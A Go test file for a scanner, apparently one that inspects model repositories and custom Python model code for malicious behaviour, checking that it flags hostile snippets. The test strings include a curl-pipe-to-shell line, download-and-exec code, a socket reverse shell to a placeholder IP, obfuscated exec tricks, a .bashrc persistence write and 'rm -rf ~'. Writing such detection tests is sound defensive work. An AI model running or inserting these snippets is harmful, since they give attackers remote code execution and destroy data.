package checks

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aigis-sec/aigis/finding"
	"github.com/google/go-cmp/cmp"
)

func repoFile(t *testing.T, repo, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "testdata", "repos", repo, name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestAutoMapFiles(t *testing.T) {
	got := AutoMapFiles(repoFile(t, "malicious-remote-code", "config.json"))
	want := []string{"configuration_evil.py", "modeling_evil.py", "tokenization_evil.py"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("AutoMapFiles (-want +got):\n%s", diff)
	}
	got = AutoMapFiles([]byte(`{"auto_map": {"AutoModel": "other/repo--modeling_x.XModel", "AutoConfig": "../../etc.X"}}`))
	if diff := cmp.Diff([]string{"other/repo--modeling_x.py"}, got); diff != "" {
		t.Errorf("AutoMapFiles cross-repo (-want +got):\n%s", diff)
	}
	if got := AutoMapFiles([]byte(`{"model_type": "bert"}`)); got != nil {
		t.Errorf("no auto_map: %v", got)
	}
}

// Realistic custom model code passes the gate: one medium finding saying
// that it runs with trust_remote_code=True, nothing else.
func TestCheckPythonBenign(t *testing.T) {
	for _, f := range AutoMapFiles(repoFile(t, "benign-custom-model", "config.json")) {
		fs := CheckPython(finding.Location{Path: f}, RoleRemoteCode, repoFile(t, "benign-custom-model", f))
		if len(fs) != 1 || fs[0].RuleID != RulePyRemoteCode.ID || fs[0].Severity != finding.Medium {
			t.Errorf("%s: want one python-remote-code finding, got:%s", f, describeFindings(fs))
		}
		if !strings.Contains(fs[0].Message, "trust_remote_code=True") {
			t.Errorf("%s: message %q", f, fs[0].Message)
		}
	}
}

type pyWant struct {
	rule    string
	sev     finding.Severity
	line    string
	mention string
}

func TestCheckPythonMalicious(t *testing.T) {
	tests := []struct {
		file, role string
		want       []pyWant
	}{
		{"modeling_evil.py", RoleRemoteCode, []pyWant{
			{"python-command-execution", finding.Critical, "7", "curl -s http://203.0.113.7/x.sh | sh"},
		}},
		{"configuration_evil.py", RoleRemoteCode, []pyWant{
			{"python-obfuscated-exec", finding.Critical, "9", "base64.b64decode"},
			{"python-command-execution", finding.Critical, "2", "id > /tmp/pwned"},
		}},
		{"tokenization_evil.py", RoleRemoteCode, []pyWant{
			{"python-network", finding.High, "4", "requests.get('http://203.0.113.7/stage2.py'"},
			{"python-file-write", finding.High, "5", "opens a file for writing"},
		}},
		{"evil_dataset.py", RoleDatasetScript, []pyWant{
			{"python-command-execution", finding.High, "11", "subprocess.Popen"},
			{"python-remote-code", finding.Medium, "", "dataset"},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			fs := CheckPython(finding.Location{Path: tt.file}, tt.role, repoFile(t, "malicious-remote-code", tt.file))
			for _, w := range tt.want {
				found := false
				for _, f := range fs {
					if f.RuleID == w.rule && f.Severity == w.sev && f.Evidence["line"] == w.line && strings.Contains(f.Message, w.mention) {
						found = true
					}
				}
				if !found {
					t.Errorf("want %s %s at line %s mentioning %q, got:%s", w.sev, w.rule, w.line, w.mention, describeFindings(fs))
				}
			}
		})
	}
}

func TestCheckPythonCases(t *testing.T) {
	tests := []struct {
		name, src string
		rule      string
		sev       finding.Severity
	}{
		{"alias import", "from os import system as s\ns('id')\n", "python-command-execution", finding.Critical},
		{"module alias in function", "import subprocess as sp\ndef f():\n    sp.run(['ls'])\n", "python-command-execution", finding.High},
		{"dunder import", "__import__('os').system('id')\n", "python-command-execution", finding.Critical},
		{"getattr folded", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "python-command-execution", finding.Critical},
		{"reversed name", "import os\ngetattr(os, 'metsys'[::-1])('id')\n", "python-command-execution", finding.Critical},
		{"join of chr", "import os\ngetattr(os, ''.join([chr(115), 'ystem']))('id')\n", "python-command-execution", finding.Critical},
		{"zlib base64 exec", "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC8uKS0oyi9RyMlPTtXLLy0pKC3JLMnMzwMAtNEM8g==')))\n", "python-obfuscated-exec", finding.Critical},
		{"rot13 exec", "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n", "python-obfuscated-exec", finding.Critical},
		{"marshal exec in function", "import marshal\ndef f(b):\n    exec(marshal.loads(b))\n", "python-obfuscated-exec", finding.High},
		{"download exec", "import urllib.request\nexec(urllib.request.urlopen('http://x/p.py').read())\n", "python-obfuscated-exec", finding.Critical},
		{"decorator runs at import", "import os\n@register(os.popen('id').read())\ndef f():\n    pass\n", "python-command-execution", finding.Critical},
		{"default value runs at import", "import os\ndef f(x=os.system('id')):\n    pass\n", "python-command-execution", finding.Critical},
		{"reverse shell", "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n", "python-reverse-shell", finding.Critical},
		{"computed import", "import importlib\ndef f(n):\n    return importlib.import_module(n)\n", "python-dynamic-code", finding.Medium},
		{"pickle in function", "import pickle\ndef f(p):\n    return pickle.load(open(p, 'rb'))\n", "python-deserialization", finding.Medium},
		{"write at import", "open('/home/u/.bashrc', 'a').write('curl x|sh')\n", "python-file-write", finding.High},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := CheckPython(finding.Location{Path: "x.py"}, RoleRemoteCode, []byte(tt.src))
			for _, f := range fs {
				if f.RuleID == tt.rule && f.Severity == tt.sev {
					return
				}
			}
			t.Errorf("want %s %s, got:%s", tt.sev, tt.rule, describeFindings(fs))
		})
	}
}

// Ordinary calls in model code are not findings.
func TestCheckPythonQuiet(t *testing.T) {
	src := `import os, re, json, importlib, urllib.parse
from distutils.version import LooseVersion
import yaml
p = os.path.join(os.getcwd(), "x")
r = re.compile("a+")
m = importlib.import_module("torch")
q = urllib.parse.quote("a b")
def load(path):
    with open(path, encoding="utf-8") as f:
        return json.load(f), yaml.load(f, Loader=yaml.SafeLoader), getattr(m, path)
def compile(x):
    return x
compile(1)
self.eval()
`
	fs := CheckPython(finding.Location{Path: "x.py"}, RoleRemoteCode, []byte(src))
	if len(fs) != 1 || fs[0].RuleID != RulePyRemoteCode.ID {
		t.Errorf("want only python-remote-code, got:%s", describeFindings(fs))
	}
}

func TestCheckPythonRolePython(t *testing.T) {
	fs := CheckPython(finding.Location{Path: "train.py"}, RolePython, []byte("import subprocess\nsubprocess.run(['nvidia-smi'])\n"))
	var got []string
	for _, f := range fs {
		got = append(got, f.Severity.String()+" "+f.RuleID)
	}
	want := []string{"high python-command-execution", "info python-code"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestCheckTorchScript(t *testing.T) {
	src := `op_version_set = 8
def forward(self: __torch__.M, x: Tensor) -> Tensor:
    _0 = ops.prim.NumToTensor(torch.size(x, 0))
    _1 = ops.aten.relu(x)
    return ops.evil_lib.run_payload(x, "rm -rf ~")
`
	fs := CheckPython(finding.Location{Path: "m.pt", Member: "m/code/__torch__.py"}, RoleTorchScript, []byte(src))
	var got []string
	for _, f := range fs {
		got = append(got, f.Severity.String()+" "+f.RuleID+" "+f.Evidence["callable"])
	}
	want := []string{"high torchscript-custom-op ops.evil_lib.run_payload", "medium torchscript-code "}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func FuzzCheckPython(f *testing.F) {
	f.Add([]byte("import os\nos.system('id')\n"), "remote-code")
	f.Add([]byte("exec(__import__('base64').b64decode('aWQ='))"), "python")
	f.Add([]byte("ops.x.y(1)"), "torchscript")
	f.Fuzz(func(t *testing.T, src []byte, role string) {
		for _, fd := range CheckPython(finding.Location{Path: "f.py"}, role, src) {
			if fd.RuleID == "" {
				t.Fatal("finding without rule")
			}
		}
	})
}
